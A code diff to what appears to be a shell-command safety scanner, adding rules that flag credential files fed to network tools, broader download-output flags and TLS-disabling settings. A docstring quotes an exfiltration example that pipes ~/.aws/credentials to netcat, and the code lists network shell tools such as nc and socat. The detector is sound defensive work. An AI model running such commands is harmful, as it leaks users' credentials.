@@ -32,10 +32,13 @@ from skillforge.safety.shell_rules import (
     WRAPPER_VALUES,
     WRAPPERS,
     base,
+    copies_out,
+    env_setting,
     host_of,
     is_decoder,
     is_downloader,
     is_interpreter,
+    sensitive,
     tls_off,
     untrusted_index,
     upload_args,
@@ -96,6 +99,7 @@ def analyse(
             found = _command(node, ws, files, snippet_id)
         elif kind == "redirected_statement":
             _redirect_writes(node, files, snippet_id)
+            found = _redirect_upload(node)
         for rule, message, conf in found:
             yield rule, message, conf, node, ()
 
@@ -184,7 +188,7 @@ def _official_install(commands: list[list[str]]) -> bool:
 
 
 def _ran_name(ws: list[str], files: Files) -> str:
-    if ws[0].startswith("./"):
+    if "/" in ws[0] and base(ws[0]) in files:  # ./i.sh, /tmp/i.sh (but /usr/bin/bash i.sh runs i.sh)
         return base(ws[0])
     return next(base(w) for w in ws[1:] if not w.startswith("-") and base(w) in files)
 
@@ -195,7 +199,7 @@ def _runs_file(ws: list[str], files: Files, snippet_id: int) -> tuple[str, str, 
     if not ws or not files:
         return None
     name = base(ws[0])
-    if ws[0].startswith("./") and name in files and not name.endswith((".md", ".txt", ".json", ".html")):
+    if "/" in ws[0] and name in files and not name.endswith((".md", ".txt", ".json", ".html")):
         target = name
     elif name in INTERPRETERS and any(base(w) in files for w in ws[1:] if not w.startswith("-")):
         target = _ran_name(ws, files)
@@ -240,9 +244,10 @@ def _command(node: Any, ws: list[str], files: Files, snippet_id: int) -> Iterato
             )
     yield from tls_off(ws)
     yield from untrusted_index(ws)
+    yield from copies_out(ws)
 
 
-_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash"})
+_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "su"})
 
 
 def _inner_script(ws: list[str], files: Files, snippet_id: int) -> Iterator[tuple[str, str, str]]:
@@ -260,7 +265,7 @@ def _inner_script(ws: list[str], files: Files, snippet_id: int) -> Iterator[tupl
 def _download_targets(ws: list[str]) -> set[str]:
     out: set[str] = set()
     for i, w in enumerate(ws[:-1]):
-        if w in ("-o", "-O", "--output", "--output-document"):
+        if w in ("--output", "--output-document") or re.fullmatch(r"-[A-Za-z]*[oO]", w):  # -o, -sLo, -qO
             out.add(base(ws[i + 1]))
     if base(ws[0]) == "wget" and not out:
         out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
@@ -286,16 +291,28 @@ def _redirect_writes(node: Any, files: Files, snippet_id: int) -> None:
                 files[base(_text(child.children[-1]).strip("\"'"))] = entry
 
 
+def _redirect_upload(node: Any) -> Iterator[tuple[str, str, str]]:
+    """``nc host 443 < ~/.aws/credentials``: a credential file fed to a network command."""
+    body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
+    if body is None:
+        return
+    network = [w for w in (words(c) for c in _walk(body) if c.type == "command") if w and _network(w)]
+    for child in node.children:
+        text = _text(child).strip()
+        if network and child.type == "file_redirect" and text.startswith("<") and sensitive(text):
+            yield (
+                "credential-upload",
+                f"feeds a credential file to the network ({base(network[0][0])})",
+                "high",
+            )
+            return
+
+
+def _network(ws: list[str]) -> bool:
+    return is_downloader(ws) or base(ws[0]) in ("nc", "ncat", "netcat", "socat")
+
+
 def _env_assignments(node: Any) -> Iterator[tuple[str, str, str]]:
     for child in node.children:
         if child.type == "variable_assignment":
-            text = _text(child).upper().replace('"', "").replace("'", "")
-            if text in (
-                "GIT_SSL_NO_VERIFY=1",
-                "GIT_SSL_NO_VERIFY=TRUE",
-                "NODE_TLS_REJECT_UNAUTHORIZED=0",
-                "PYTHONHTTPSVERIFY=0",
-                "CURL_CA_BUNDLE=",
-                "REQUESTS_CA_BUNDLE=",
-            ):
-                yield "tls-disabled", f"turns TLS verification off ({text})", "high"
+            yield from env_setting(_text(child))
